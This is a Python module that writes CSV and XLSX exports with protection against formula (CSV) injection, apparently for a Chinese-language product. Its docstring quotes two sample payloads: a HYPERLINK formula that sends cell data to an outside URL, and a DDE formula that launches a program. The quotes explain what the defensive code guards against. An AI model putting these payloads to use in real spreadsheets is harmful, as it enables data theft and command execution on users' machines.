"""Tables for spreadsheet programs: CSV and XLSX in which no cell from user data runs as a formula.

Excel, WPS and LibreOffice read a cell that begins with `=`, `+`, `-` or `@` as a formula — so a
document title `=HYPERLINK("http://…/?"&A1,"详情")` sends the sheet away when clicked, and
`-2+3+cmd|' /C calc'!A0` starts a program through DDE. Tab and carriage return are trimmed by
some imports in front of them, and IME input turns the full-width ＝＋－＠ into formulas too.
Every export writes through `csv_bytes` and `xlsx_bytes`, which keep such text as text (OWASP
"CSV Injection"): in CSV with a leading single quote, in XLSX as an explicit string cell marked
"quote prefix" (Excel keeps it text even when the cell is edited). Numbers and dates the product
computes are passed as int, float or date and stay numbers and dates.

An XLSX reads like a report: a title row, a 统计日期 row (with the scope), then the header —
frozen, with an auto-filter — and columns as wide as their text (a Chinese character counts
double), long text wrapped; it prints on A4 landscape, one page wide, the header on every page.
openpyxl is imported when an XLSX is written, not with this module: it costs every served
process ~5 MB, for the few requests that export one.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import unicodedata
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, TypeAlias

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet

CellValue: TypeAlias = str | int | float | dt.date | None

XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_MIMETYPE = "text/csv; charset=utf-8"


HEADER_ROW = 3  # title, 统计日期, header
_MIN_WIDTH = 6  # Excel column widths are in characters of the default font; a Chinese character takes two
_MAX_WIDTH = 60  # longer text wraps
_DATE_WIDTH = 12
_FONT_NAME = "宋体"
_FORMULA_START = re.compile(r"[\t\r]|\s*[=+\-@＝＋－＠]")  # = + - @ (and full-width), tab, CR; also after blanks


def formula_like(text: str) -> bool:
    """Would a spreadsheet program read this text as a formula, now or once leading blanks are trimmed?"""
    return _FORMULA_START.match(text) is not None


def csv_cell(value: CellValue) -> str | int | float:
    """One CSV cell: text that could start a formula gets a leading single quote."""
    if value is None:
        return ""
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, str):
        return "'" + value if formula_like(value) else value
    return value


def csv_bytes(*, header: Sequence[str], rows: Iterable[Sequence[CellValue]]) -> bytes:
    """UTF-8 with a byte-order mark: without it, Excel on Chinese Windows reads GBK and garbles it."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([csv_cell(h) for h in header])
    writer.writerows([csv_cell(v) for v in row] for row in rows)
    return buffer.getvalue().encode("utf-8-sig")


def xlsx_bytes(
    *,
    title: str,
    header: Sequence[str],
    rows: Iterable[Sequence[CellValue]],
    as_of: dt.date,
    scope: str | None = None,
    heading: str | None = None,
) -> bytes:
    """One sheet named `title` (Excel allows 31 characters): the heading (default: the title),
    统计日期 `as_of` and the scope, then a frozen, filtered header row and `rows`, columns sized
    to their content."""
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
    from openpyxl.utils import get_column_letter

    book = Workbook()
    sheet = book.worksheets[0]
    sheet.title = _sheet_name(title)
    columns = max(1, len(header))
    widths = [_display_width(h) + 2 for h in header]
    _put(sheet.cell(row=1, column=1), heading or title)
    sheet.cell(row=1, column=1).font = Font(name=_FONT_NAME, bold=True, size=14)
    stated = f"统计日期：{as_of.isoformat()}" + (f"　范围：{scope}" if scope else "")
    _put(sheet.cell(row=2, column=1), stated)
    sheet.cell(row=2, column=1).font = Font(name=_FONT_NAME, size=10)
    if columns > 1:
        sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=columns)
        sheet.merge_cells(start_row=2, start_column=1, end_row=2, end_column=columns)
    bold = Font(name=_FONT_NAME, bold=True)
    shaded = PatternFill("solid", fgColor="E7E6E6")
    thin = Side(style="thin", color="808080")
    border = Border(left=thin, right=thin, top=thin, bottom=thin)
    for column, heading in enumerate(header, start=1):
        cell = sheet.cell(row=HEADER_ROW, column=column)
        _put(cell, heading)
        cell.font, cell.fill, cell.border = bold, shaded, border
        cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
    last_row = HEADER_ROW
    for row_number, row in enumerate(rows, start=HEADER_ROW + 1):
        last_row = row_number
        for column, value in enumerate(row, start=1):
            cell = sheet.cell(row=row_number, column=column)
            _put(cell, value)
            cell.border = border
            if column <= len(widths):
                widths[column - 1] = max(widths[column - 1], _value_width(value) + 2)
            else:
                widths.append(_value_width(value) + 2)
    for column, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(column)].width = min(_MAX_WIDTH, max(_MIN_WIDTH, width))
        if width > _MAX_WIDTH:
            for (cell,) in sheet.iter_rows(min_row=HEADER_ROW + 1, max_row=last_row, min_col=column, max_col=column):
                cell.alignment = Alignment(wrap_text=True, vertical="top")
    last_column = get_column_letter(max(columns, len(widths)))
    sheet.freeze_panes = f"A{HEADER_ROW + 1}"
    sheet.auto_filter.ref = f"A{HEADER_ROW}:{last_column}{last_row}"
    _print_setup(sheet)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _print_setup(sheet: Worksheet) -> None:
    sheet.print_title_rows = f"{HEADER_ROW}:{HEADER_ROW}"
    sheet.page_setup.orientation = "landscape"
    sheet.page_setup.paperSize = sheet.PAPERSIZE_A4
    sheet.page_setup.fitToWidth = 1
    sheet.page_setup.fitToHeight = 0
    sheet.sheet_properties.pageSetUpPr.fitToPage = True


_SHEET_NAME_FORBIDDEN = re.compile(r"[\\/?*\[\]:]")


def _sheet_name(title: str) -> str:
    """Excel refuses these characters in a sheet name, and names over 31 characters."""
    return _SHEET_NAME_FORBIDDEN.sub("_", title)[:31] or "Sheet1"


def _display_width(text: str) -> int:
    """Width of the longest line in Excel's units: a Chinese (wide or full-width) character counts two."""
    return max((sum(2 if unicodedata.east_asian_width(ch) in ("W", "F") else 1 for ch in line) for line in text.split("\n")), default=0)


def _value_width(value: CellValue) -> int:
    if value is None:
        return 0
    if isinstance(value, dt.date):
        return _DATE_WIDTH
    return _display_width(value if isinstance(value, str) else str(value))


def _put(cell: Cell, value: CellValue) -> None:
    """Text is always a string cell (never a formula); numbers and dates keep their type."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if value is None:
        return
    if not isinstance(value, str):
        cell.value = value
        return
    text = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)  # control characters openpyxl refuses to write
    cell.value = text
    cell.data_type = "s"  # openpyxl made "=…" a formula ("f"); a string cell holds the same text
    if formula_like(text):
        cell.quotePrefix = True
